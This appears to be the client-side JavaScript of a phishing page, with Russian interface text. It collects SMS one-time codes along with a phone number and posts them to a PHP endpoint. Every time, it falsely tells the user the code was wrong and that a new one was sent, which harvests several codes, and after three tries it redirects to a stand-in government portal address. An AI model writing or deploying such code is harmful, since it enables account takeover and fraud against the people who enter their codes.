let sec = 120;
const t = setInterval(() => {
  sec--;
  document.getElementById('timer').textContent = `Код действителен: ${Math.floor(sec / 60)}:${String(sec % 60).padStart(2, '0')}`;
  if (sec <= 0) { clearInterval(t); document.getElementById('again').style.display = 'inline'; }
}, 1000);
const cells = [...document.querySelectorAll('.code-cell')];
cells.forEach((c, i) => c.addEventListener('keyup', () => {
  if (c.value && cells[i + 1]) cells[i + 1].focus();
  const code = cells.map(x => x.value).join('');
  if (code.length === cells.length) otpravit(code);
}));
let popytka = 0;
function otpravit(code) {
  const phone = new URLSearchParams(location.search).get('phone');
  fetch('/send_code.php', { method: 'POST', body: JSON.stringify({ phone, code, popytka: ++popytka }) });
  cells.forEach(c => { c.value = ''; });
  cells[0].focus();
  document.getElementById('err').textContent = 'Неверный код. Мы отправили новый код в SMS.';
  if (popytka === 3) location.href = 'https://gosportal.example/lk';
}
